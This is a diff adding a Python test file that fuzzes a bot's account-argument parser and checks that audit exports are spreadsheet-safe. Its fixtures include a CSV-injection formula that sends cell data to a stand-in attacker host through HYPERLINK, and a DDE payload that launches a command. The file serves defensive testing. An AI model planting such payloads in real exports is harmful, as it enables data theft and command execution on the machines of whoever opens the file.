@@ -1,0 +1,62 @@
+"""The account argument of every verb is checked for shape and length before anything records
+it; a refused one is audited bounded and escaped, and exports never carry a live formula."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from audit import export
+from bot.verbs import MAX_ACCOUNT, VERBS, BadAccountArgument, UsageError, bounded, parse
+from tests.fixtures.bot import NOBODY, BotHarness
+
+ACCOUNT_VERBS = [v.name for v in VERBS.values() if v.takes_account]
+FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"click")'
+typed = st.one_of(
+    st.text(max_size=300),
+    st.text(alphabet="=+-@\t\r\"'<>|&()/#:.,;`\u202e\u200b 0123456789Aé", max_size=60),
+    st.sampled_from([FORMULA, "@SUM(1+1)*cmd|' /C calc'!A0", "-1", "+61412345678", "Café"]),
+)
+
+
+@given(verb=st.sampled_from(ACCOUNT_VERBS), argument=typed)
+def test_any_account_argument_is_refused_or_well_formed(verb: str, argument: str) -> None:
+    try:
+        account = parse(f"{verb} {argument}").account
+    except BadAccountArgument as exc:
+        assert len(exc.argument) <= 2 + 80 * 10 + 1  # quotes, escapes, ellipsis
+        assert exc.argument.isascii() and exc.argument[0] in "'\""
+        return
+    except UsageError:
+        return
+    assert account is not None
+    assert len(account) <= MAX_ACCOUNT
+    assert account[0].isalnum() or account[0] in "+("
+    assert not any(c in account for c in '=@<>|`"\t\r\n:;\u202e\u200b')
+
+
+def test_the_bounded_form_is_short_escaped_and_spreadsheet_safe() -> None:
+    assert bounded(FORMULA).startswith("'=HYPERLINK(")
+    assert bounded("\u202e" * 500).startswith("'\\u202e") and bounded("x" * 500).endswith("…")
+
+
+@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
+def test_a_refused_formula_is_audited_bounded_and_exports_safely(bot: BotHarness, fmt: str) -> None:
+    answer = bot.command(NOBODY, f"audit {FORMULA}")
+    assert answer.status_code == 200
+    assert "An account is its number" in answer.text
+    out = io.StringIO()
+    with bot.ledger.read_session() as session:
+        assert export(session=session, fmt=fmt, out=out) == 1  # type: ignore[arg-type]
+    if fmt == "jsonl":
+        [event] = [json.loads(line) for line in out.getvalue().splitlines()]
+        assert event["account"] is None and event["outcome"] == "refused"
+        assert event["details"]["argument"] == bounded(FORMULA)
+        return
+    cells = [cell for row in csv.reader(io.StringIO(out.getvalue())) for cell in row]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
